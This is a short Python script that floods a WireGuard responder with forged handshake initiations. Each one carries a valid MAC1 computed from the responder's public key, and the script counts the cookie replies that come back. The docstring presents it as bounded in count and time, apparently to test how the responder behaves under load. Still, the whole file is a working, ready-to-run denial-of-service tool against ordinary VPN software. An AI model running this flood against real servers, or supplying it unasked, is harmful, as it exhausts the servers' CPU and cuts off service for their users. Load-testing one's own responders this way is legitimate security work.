"""Floods a WireGuard responder with handshake initiations that carry a valid MAC1.

Knowing only the responder's public key, anyone can compute MAC1 (whitepaper 5.4.4), so these
pass the first check; the rest of each message is random, so a responder that did the
Diffie-Hellman work would burn CPU for nothing. Bounded in count and time.
Usage: flood_initiations.py <responder-public-key-b64> <host> <port> <count> <seconds>
Prints: sent=N cookie_replies=M other_replies=K
"""
import base64
import hashlib
import os
import socket
import sys
import time

public_key = base64.b64decode(sys.argv[1])
host, port = sys.argv[2], int(sys.argv[3])
count, seconds = int(sys.argv[4]), float(sys.argv[5])
mac1_key = hashlib.blake2s(b"mac1----" + public_key).digest()

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind(("0.0.0.0", 0))
sock.setblocking(False)
sent = cookie_replies = other_replies = 0


def drain():
    global cookie_replies, other_replies
    while True:
        try:
            data = sock.recv(2048)
        except BlockingIOError:
            return
        if len(data) == 64 and data[0] == 3:
            cookie_replies += 1
        else:
            other_replies += 1


start = time.monotonic()
while sent < count and time.monotonic() - start < seconds:
    body = bytes([1, 0, 0, 0]) + os.urandom(4 + 32 + 48 + 28)
    mac1 = hashlib.blake2s(body, key=mac1_key, digest_size=16).digest()
    sock.sendto(body + mac1 + bytes(16), (host, port))
    sent += 1
    if sent % 16 == 0:
        drain()
        time.sleep(0.001)
end = time.monotonic() + 1.0
while time.monotonic() < end:
    drain()
    time.sleep(0.01)
print(f"sent={sent} cookie_replies={cookie_replies} other_replies={other_replies}")
